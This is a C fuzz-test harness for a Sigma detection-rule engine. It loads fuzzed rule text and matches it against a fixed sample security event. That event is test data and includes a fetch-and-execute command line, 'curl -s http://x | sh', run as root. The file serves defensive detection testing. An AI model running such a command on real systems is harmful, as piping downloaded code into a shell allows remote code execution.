/* Sigma rule loader: any bytes load or are rejected with diagnostics; whatever loads compiles
 * into a prefilter and matches a small event without crashing. */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "detect.h"
#include "detect_doc_json.h"

#include "banned.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char EVENT[] =
    "{\"@timestamp\":\"2026-11-22T10:00:00Z\",\"event\":{\"category\":[\"process\"],"
    "\"action\":\"exec\"},\"process\":{\"executable\":\"/usr/bin/curl\",\"command_line\":"
    "\"curl -s http://x | sh\",\"pid\":42,\"parent\":{\"executable\":\"/bin/bash\"}},"
    "\"user\":{\"name\":\"root\"},\"destination\":{\"ip\":\"10.1.2.3\",\"port\":443},"
    "\"message\":\"Accepted password for root\"}";

static void on_diag(void *ctx, const struct detect_diag *d)
{
	(void)ctx;
	if (!d->message || !d->message[0])
		abort(); /* every problem must say what it is */
}

static int on_hit(void *ctx, const struct detect_hit *hit)
{
	(void)ctx;
	if (!hit->rule || !hit->rule->id)
		abort();
	return 0;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct detect_engine *e = detect_engine_new();
	if (!e)
		return 0;
	static const char *const vals[] = {"a", "b"};
	detect_engine_set_placeholder(e, "ph", vals, 2);
	detect_engine_set_diag(e, on_diag, NULL);
	detect_engine_add_yaml(e, "fuzz.yml", (const char *)data, size);
	if (detect_engine_finish(e) == 0) {
		struct detect_ctx *c = detect_ctx_new(e);
		if (c) {
			char err[64];
			for (int i = 0; i < 3; i++)
				if (detect_doc_from_json(detect_ctx_doc(c), EVENT, sizeof(EVENT) - 1, err,
							 sizeof(err)) == 0)
					detect_ctx_match(c, on_hit, NULL);
			detect_ctx_free(c);
		}
	}
	detect_engine_free(e);
	return 0;
}
